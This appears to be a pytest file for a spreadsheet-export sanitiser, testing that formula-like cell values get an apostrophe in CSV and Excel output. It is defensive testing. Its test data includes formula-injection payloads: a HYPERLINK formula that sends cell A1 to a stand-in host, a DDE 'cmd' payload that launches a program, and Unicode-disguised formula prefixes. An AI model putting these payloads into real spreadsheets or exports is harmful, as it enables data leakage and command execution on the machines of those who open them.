"""Nothing in a table is worked out by a spreadsheet, and everything can still be read."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from types import SimpleNamespace

import pytest

from records.tables.cells import LONGEST, could_be_formula, harmless
from records.tables.excel import Workbook
from records.tables.writing import lines
from tests.tables.reading import rows_of_csv, sheet

FORMULAS = [
    "=HYPERLINK(\"http://x.example?\"&A1,\"see\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", " ＝1+1",
    "=cmd|' /C calc'!A0", "\x00=1+1", "\u0301=1", "-", "\n", "'\t".strip("'"),
]  # fmt: skip
HARMLESS = ["Zoë Łukasz", "O'Neill", "4 = 2 + 2", "1-2", "'=1+1", "", " ", "–", "عائشة", "🎻 =1"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_begins_like_a_formula_begins_with_an_apostrophe(typed):
    assert harmless(typed) == f"'{typed.replace(chr(0), '')}"


@pytest.mark.parametrize("typed", HARMLESS)
def test_what_begins_otherwise_stands_as_it_was_typed(typed):
    assert harmless(typed) == typed


def test_days_and_times_sort_and_are_those_of_the_school():
    assert harmless(date(2026, 6, 4)) == "2026-06-04"
    assert harmless(datetime(2026, 6, 4, 8, 32, tzinfo=UTC)) == "2026-06-04 09:32"
    assert harmless(None) == ""


def test_a_novel_in_a_cell_ends_where_excel_would_refuse_the_file():
    assert len(harmless("x" * 50_000)) == LONGEST


class Three(SimpleNamespace):
    """A table of these cells, one to a row."""

    def rows(self, places):
        """Two pieces."""
        yield [[value, "Nair"] for value in places[:3]]
        yield [[value, "Nair"] for value in places[3:]]


def table():
    """With two columns."""
    return Three(register=SimpleNamespace(columns=("What", "Who")))


def about(written):
    """Something dangerous about itself."""
    return [("Rows", written), ("Saved by", "=Lorna")]


def test_a_round_trip_through_csv_gives_every_word_back_and_no_formula():
    typed = [*FORMULAS, *HARMLESS, 'say "hi", both', "two\nlines", "+44 7700 900123"]
    head, rows, last = rows_of_csv(b"".join(lines(table(), typed, about)))
    assert head == ["What", "Who"]
    assert last == f"Rows: {len(typed)}. Saved by: =Lorna"
    assert [who for _, who in rows] == ["Nair"] * len(typed)
    cells = [one for one, _ in rows]
    assert [one for one in cells if could_be_formula(one)] == []
    back = [one[1:] if one[:1] == "'" and could_be_formula(one[1:]) else one for one in cells]
    meant = [one.replace("\x00", "") for one in typed]
    ambiguous = {"'=1+1"}  # an apostrophe that somebody typed
    assert [one for one in zip(back, meant, strict=True) if one[0] != one[1] and one[1] not in ambiguous] == []


def test_a_round_trip_through_excel_has_text_in_every_cell_and_no_formula():
    typed = [*FORMULAS, *HARMLESS, "<b>&amp;</b>", "_x003D_1+1", "+44 7700 900123", "two\nlines"]
    out = io.BytesIO()
    book = Workbook(out)
    book.add("Contacts", ("What", "Number"), [[[value, 7] for value in typed]], [20, 20])
    book.add("About", (), [about(1)], [20, 20])
    book.close()
    with zipfile.ZipFile(out) as packed:
        head, *rows = sheet(packed, 1)
        assert sheet(packed, 2) == [
            [("s", "Rows"), ("n", "1")],
            [("s", "Saved by"), ("s", "'=Lorna")],
        ]
    assert head == [("s", "What"), ("s", "Number")]
    assert {number for _, number in rows} == {("n", "7")}
    assert [words for (_, words), _ in rows][-4:] == ["<b>&amp;</b>", "_x003D_1+1", "+44 7700 900123", "two\nlines"]
    assert {kind for (kind, words), _ in rows if words} == {"s"}
    dangerous = [words for (_, words), _ in rows if could_be_formula(words)]
    assert dangerous == ["+44 7700 900123"]  # in a cell that is text: it can be dialled, and nothing works it out


def in_excel(value):
    """The words of the one cell of a workbook."""
    out = io.BytesIO()
    book = Workbook(out)
    book.add("Contacts", (), [[[value]]], [20])
    book.close()
    with zipfile.ZipFile(out) as packed:
        (((kind, words),),) = sheet(packed, 1)
    assert kind == "s"
    return words


@pytest.mark.parametrize("number", ["+44 7700 900123", "+44 (0)20 7946 0018", "+447700900123"])
def test_a_telephone_number_stays_readable(number):
    assert in_excel(number) == number
    assert harmless(number) == f"'{number}"


@pytest.mark.parametrize(
    "no_number", ["+1+1", "+44-20", "+44 20*3", "+A1", "+44 7700\n=1", "+1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6"]
)
def test_what_only_begins_like_a_telephone_number_is_none(no_number):
    assert in_excel(no_number) == f"'{no_number}"


def test_what_is_sent_is_csv_to_any_other_reader():
    body = b"".join(lines(table(), ["a,b", 'c"d'], about)).decode("utf-8-sig")
    assert list(csv.reader(body.splitlines()))[1:3] == [["a,b", "Nair"], ['c"d', "Nair"]]
    assert body.endswith("\r\n")
